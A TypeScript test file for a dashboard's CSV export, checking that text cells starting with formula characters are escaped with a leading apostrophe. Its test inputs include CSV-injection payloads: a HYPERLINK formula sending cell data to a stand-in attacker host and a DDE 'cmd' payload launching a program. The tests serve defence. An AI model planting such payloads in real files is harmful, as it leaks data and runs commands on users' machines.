import { toCsv } from '../../../web/src/csv-text';

/**
 * The dashboard's CSV downloads carry text other keys wrote (an acquisition
 * claim's title, written by any librarian). A spreadsheet opening the file
 * runs a cell that starts with =, +, - or @ (or a tab or carriage return
 * before one) as a formula: such a text cell is written with a leading
 * apostrophe, so it opens as the text it is. Figures stay as the API gave them.
 */
describe('dashboard CSV', () => {
  const cells = (csv: string): string[] => csv.trimEnd().split('\r\n')[1].split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/);

  it.each([
    ['=HYPERLINK("http://attacker.invalid/?"&A1,"Click")', `"'=HYPERLINK(""http://attacker.invalid/?""&A1,""Click"")"`],
    ['+cmd|\' /C calc\'!A0', `'+cmd|' /C calc'!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(1+1)', `'@SUM(1+1)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('writes the text %j so that no spreadsheet runs it', (title, written) => {
    expect(cells(toCsv(['isbn', 'title'], [['9780306406157', title]]))[1]).toBe(written);
  });

  it.each([['-1'], [-1], ['+2'], ['-0.25'], [0], ['1e3'], ['Babad Tanah Jawi'], ['']])('keeps %j as it is', (value) => {
    expect(cells(toCsv(['partner', 'balance'], [['DE-1', value]]))[1]).toBe(String(value));
  });
});
